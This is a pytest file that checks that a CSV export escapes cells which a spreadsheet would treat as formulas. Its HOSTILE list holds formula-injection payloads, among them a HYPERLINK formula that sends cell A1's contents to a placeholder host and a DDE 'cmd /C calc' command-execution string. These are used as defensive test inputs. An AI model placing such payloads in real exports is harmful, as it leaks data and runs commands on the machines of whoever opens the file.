"""What a spreadsheet program would work out stands in a file as mere text."""

from __future__ import annotations

import csv
import io

import openpyxl
import polars as pl
import pytest

from builder.cells import plain
from scorers.scoring.files import TableFormat, written

HOSTILE = (
    '=HYPERLINK("http://x.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\N{FULLWIDTH EQUALS SIGN}1",
    "\N{FULLWIDTH COMMERCIAL AT}x",
)
HARMLESS = ("", "yes", "10000022", "a = b", "'=1", "2026-01-09", "low-high")


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_begins_a_formula(text: str) -> None:
    table = pl.DataFrame({"gender": [text], "flags": [[text, "RF-01"]], text: [-1]})
    content = written(table, TableFormat.CSV).decode()

    head, row = csv.reader(io.StringIO(content, newline=""))
    assert head == ["gender", "flags", f"'{text}"]
    assert row == [f"'{text}", f"'{text} RF-01", "-1"]
    assert _opened([head, row]) == set()


@pytest.mark.parametrize("text", HARMLESS)
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert plain(text) == text
    table = pl.DataFrame({"a": [text, None], "b": [1, 2]})
    rows = list(csv.reader(io.StringIO(written(table, TableFormat.CSV).decode())))
    assert rows[1] == [text, "1"]


def test_lists_without_any_word_are_written() -> None:
    table = pl.DataFrame({"respondent_code": ["1"], "red_flags": [[]]})

    assert written(table, TableFormat.CSV) == b'respondent_code,red_flags\n1,""\n'


def _opened(rows: list[list[str]]) -> set[str]:
    """Give the formulas that a spreadsheet makes of the cells of a CSV file."""
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    for row in rows:
        sheet.append(row)
    return {
        str(cell.value) for row in sheet.rows for cell in row if cell.data_type == "f"
    }
